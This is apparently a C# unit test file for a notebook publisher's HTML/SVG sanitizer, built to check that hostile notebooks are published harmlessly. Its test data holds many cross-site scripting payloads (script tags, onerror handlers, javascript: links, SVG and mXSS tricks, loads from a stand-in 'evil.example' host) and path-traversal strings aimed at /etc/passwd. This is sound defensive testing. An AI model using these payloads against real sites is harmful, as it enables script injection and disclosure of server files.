using System.Text;
using System.Text.Json.Nodes;
using Descent.Notebooks;
using Xunit;

namespace Descent.Publishing.Tests;

/// <summary>
/// Notebooks that mean harm, published as they would be, with the real sanitizer: a safe page and deck, or an error in words.
/// They need node and npm; without them they are left out, unless DESCENT_BROWSER_TESTS=required.
/// </summary>
public sealed class HostileNotebookTests : IDisposable
{
    private static readonly Lazy<(NodePackages Packages, NodeRenderer Node)?> node = new(Start);
    private readonly Notebooks notebooks = new();

    public void Dispose() => notebooks.Dispose();

    public static TheoryData<string> Markdown =>
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
        "<img src=data:image/png;base64,AAAA onerror=alert(1)>",
        "<img src=\"http://evil.example/pixel.png\">",
        "![pixel](http://evil.example/pixel.png)",
        "![($x$), $y$ = 1.](http://evil.example/pixel.png)",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "<a href=\"java&#10;script:alert(1)\">click</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">click</a>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<object data=\"https://evil.example\"></object><embed src=\"https://evil.example\">",
        "<form action=\"https://evil.example\"><input name=a><button>go</button></form>",
        "<style>@import url(https://evil.example/x.css); body { display: none }</style>",
        "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/><meta http-equiv=refresh content=0>",
        "<p style=\"background:url(https://evil.example/x.png);position:fixed\">text</p>",
        "<svg onload=alert(1)><script>alert(1)</script><use href=\"https://evil.example/x.svg#a\"/><foreignObject><body onload=alert(1)></foreignObject></svg>",
        "<svg><animate attributeName=href to=javascript:alert(1) /><set attributeName=onmouseover to=alert(1) /></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "$\\href{javascript:alert(1)}{x}$ and $\\includegraphics{http://evil.example/x.png}$",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "# <img src=data:image/png;base64,AAAA onerror=alert(1)> heading",
        "\uE0000\uE001 tokens <b onclick=alert(1)>of ours</b>",
    ];

    [Theory]
    [MemberData(nameof(Markdown))]
    public void Markdown_that_means_harm_becomes_harmless(string markdown)
    {
        if (Publish(notebooks.Text("# Title"), Slide(notebooks.Text(markdown))) is { } html)
            AssertHarmless(html);
    }

    [Theory]
    [MemberData(nameof(Markdown))]
    public void Html_and_svg_outputs_that_mean_harm_become_harmless(string html)
    {
        string svg = $"<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 9 9\" onload=\"alert(1)\"><rect width=\"9\" height=\"9\" fill=\"url(https://evil.example/x)\"/>{html}</svg>";
        Cell[] cells = [notebooks.Code("1", Notebooks.Shown(("text/html", html), ("text/plain", "plain"))), notebooks.Code("2", Notebooks.Shown(("image/svg+xml", svg), ("text/plain", "plain")))];
        if (Publish([notebooks.Text("# Title"), .. cells.Select(Slide)]) is { } pages)
            AssertHarmless(pages);
    }

    [Fact]
    public void A_figure_cannot_bring_addresses_in_through_its_colours()
    {
        var figure = JsonNode.Parse("""{"data":[{"type":"scatter","x":[1,2],"y":[1,2],"name":"<script>alert(1)</script>","line":{"color":"url(https://evil.example/x)"}}],"layout":{"title":{"text":"</script><img src=x onerror=alert(1)>"},"paper_bgcolor":"url(https://evil.example/y)"}}""")!;
        var cell = Slide(notebooks.Code("1", Notebooks.Shown((OutputRenderer.PlotlyType, figure), ("image/svg+xml", "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\"><rect width=\"9\" height=\"9\"/></svg>"), ("text/plain", "plain"))));
        if (Publish(notebooks.Text("# Title"), cell) is { } html)
            AssertHarmless(html);
    }

    [Theory]
    [InlineData("""{"width":"abc","height":{},"grid":"x","xaxis":{},"xaxis2":{},"xaxis3":{},"xaxis4":{}}""")]
    [InlineData("""{"width":1e300,"height":-1,"grid":{"columns":"2","rows":[]},"xaxis":{},"xaxis2":{},"xaxis3":{},"xaxis4":{}}""")]
    [InlineData("""{"grid":{"columns":1e99,"rows":2},"xaxis":1,"xaxis2":2}""")]
    [InlineData("""{"grid":{"columns":2},"xaxis":{},"xaxis2":{},"xaxis3":{},"xaxis4":{}}""")]
    [InlineData("[]")]
    [InlineData("\"wide\"")]
    public void A_figure_whose_layout_is_none_falls_back_to_its_words(string layout)
    {
        const string Svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\" height=\"9\"><text>two points</text></svg>";
        foreach (string data in new[] { """[{"type":"scatter","x":[1,2],"y":[1,2],"marker":{"size":1e999}},{"marker":{"size":"Infinity"}},{"marker":[]},{}]""", "\"none\"" })
            foreach (var drawn in new (string, JsonNode)[][] { [], [("image/svg+xml", Svg)] })
                if (Publish(notebooks.Text("# Title"), Slide(notebooks.Code("1", Notebooks.Shown([(OutputRenderer.PlotlyType, JsonNode.Parse($$"""{"data":{{data}},"layout":{{layout}}}""")!), .. drawn, ("text/plain", "two points")])))) is not null)
                    foreach (string file in new[] { "hostile.html", "slides/hostile.html" })
                        Assert.Matches("two points|<clipPath", notebooks.Read(file));
    }

    [Fact]
    public void Fifty_megabytes_of_output_are_cut_and_said_to_be()
    {
        string text = string.Concat(Enumerable.Repeat("all work and no play makes a dull page\n", 50_000_000 / 39));
        var cells = new[] { notebooks.Code("1", [Notebooks.Stream(text)]), notebooks.Code("2", Notebooks.Shown(("text/html", $"<p>{text}</p>"), ("text/plain", "plain"))) };
        if (Publish([notebooks.Text("# Title"), .. cells.Select(Slide)]) is not { } html)
            return;
        Assert.InRange(html.Length, 1_000, 1_000_000);
        Assert.Contains("more characters are in the notebook", html);
    }

    [Fact]
    public void Html_nested_ten_thousand_deep_is_published()
    {
        string deep = string.Concat(Enumerable.Repeat("<div><b>", 10_000)) + "bottom";
        if (Publish(notebooks.Text("# Title"), Slide(notebooks.Text(deep)), Slide(notebooks.Code("1", Notebooks.Shown(("text/html", deep), ("text/plain", "plain"))))) is { } html)
            Assert.Contains("bottom", html);
    }

    [Theory]
    [InlineData("![x](attachment:../../../etc/passwd)")]
    [InlineData("![x](../../../../../../../etc/passwd)")]
    [InlineData("![x](..%2F..%2F..%2F..%2Fetc%2Fpasswd)")]
    [InlineData("![x](/etc/passwd)")]
    [InlineData("![x](nothing.png)")]
    public void A_picture_outside_of_the_course_is_refused_in_words(string markdown)
    {
        if (node.Value is null)
            return;
        var error = Assert.Throws<PublishingException>(() => Publish(notebooks.Text("# Title"), notebooks.Text(markdown)));
        Assert.Contains("hostile.ipynb", error.Message);
    }

    [Fact]
    public void Without_node_one_sentence_says_what_is_missing()
    {
        using var missing = new NodeRenderer(new NodePackages(NodePackages.Find().Folder) { Node = "no-such-node", Npm = "no-such-npm" });
        var error = Assert.Throws<PublishingException>(() => missing.Math("x", display: false));
        Assert.Contains("Node.js", error.Message);
        Assert.DoesNotContain('\n', error.Message);
    }

    [Fact]
    public void Formulas_are_typeset_once_and_a_wrong_one_says_why()
    {
        if (node.Value is not { } tools)
            return;
        string html = tools.Node.Math(@"\frac12 \tag{1.2}", display: true);
        Assert.Contains("<math", html);
        Assert.Contains("1.2", html);
        Assert.Same(html, tools.Node.Math(@"\frac12 \tag{1.2}", display: true));
        Assert.Contains("expected", Assert.Throws<TypesettingException>(() => tools.Node.Math(@"\frac{", display: false)).Message, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void What_is_good_survives_the_sanitizer()
    {
        if (node.Value is not { } tools)
            return;
        Assert.Equal("<table><tr><td style=\"text-align:right\">1 &lt; 2</td></tr></table>", tools.Node.Html("<table><tr><td style=\"text-align:right\">1 &lt; 2</td></tr></table>"));
        Assert.Equal("<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 9 9\"><clipPath id=\"c\"><rect width=\"9\" height=\"9\" /></clipPath><g clip-path=\"url(#c)\"><path d=\"M0 0\" style=\"fill:#fff\" /></g></svg>",
            tools.Node.Svg("<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 9 9\"><clipPath id=\"c\"><rect width=\"9\" height=\"9\"/></clipPath><g clip-path=\"url(#c)\"><path d=\"M0 0\" style=\"fill:#fff\"/></g></svg>"));
    }

    private static Cell Slide(Cell cell)
    {
        cell.Metadata["slideshow"] = new JsonObject { ["slide_type"] = "slide" };
        return cell;
    }

    /// <summary>Page and deck together; null where node is not there.</summary>
    private string? Publish(params Cell[] cells)
    {
        if (node.Value is not { } tools)
            return null;
        string file = notebooks.Write("hostile.ipynb", cells);
        new SitePublisher(Site.Of([file]), notebooks.Output, new PublishOptions()).Publish(tools.Node, null, CancellationToken.None);
        var html = new StringBuilder(notebooks.Read("hostile.html"));
        if (File.Exists(Path.Combine(notebooks.Output, "slides/hostile.html")))
            html.Append(notebooks.Read("slides/hostile.html"));
        return html.ToString();
    }

    private static void AssertHarmless(string html)
    {
        // What a reader sees as text is escaped; the formulas' own source is in an annotation.
        string[] tags = [.. System.Text.RegularExpressions.Regex.Matches(html, "<[^>]*>").Select(match => match.Value)];
        Assert.DoesNotContain(tags, tag => System.Text.RegularExpressions.Regex.IsMatch(tag, @"^<[^>""]*(?:""[^""]*""[^>""]*)*\son\w+\s*=", System.Text.RegularExpressions.RegexOptions.IgnoreCase));
        Assert.DoesNotContain(tags, tag => tag.Contains("javascript:", StringComparison.OrdinalIgnoreCase) && !tag.Contains("title=", StringComparison.Ordinal));
        Assert.DoesNotContain(tags, tag => System.Text.RegularExpressions.Regex.IsMatch(tag, @"^<(iframe|object|embed|form|base|foreignobject|animate|set|style|textarea|noscript)\b", System.Text.RegularExpressions.RegexOptions.IgnoreCase));
        Assert.DoesNotContain(tags, tag => tag.Contains("evil.example", StringComparison.Ordinal) && !tag.StartsWith("<a ", StringComparison.Ordinal));
        Assert.DoesNotContain(tags, tag => tag.StartsWith("<script", StringComparison.OrdinalIgnoreCase) && !tag.Contains("assets/", StringComparison.Ordinal));
    }

    private static (NodePackages, NodeRenderer)? Start()
    {
        var packages = NodePackages.Find();
        var renderer = new NodeRenderer(packages);
        try
        {
            renderer.Math("x", display: false);
            return (packages, renderer);
        }
        catch (PublishingException e) when (Environment.GetEnvironmentVariable("DESCENT_BROWSER_TESTS") != "required")
        {
            Console.WriteLine($"Left out: hostile notebooks, because {e.Message}");
            return null;
        }
    }
}
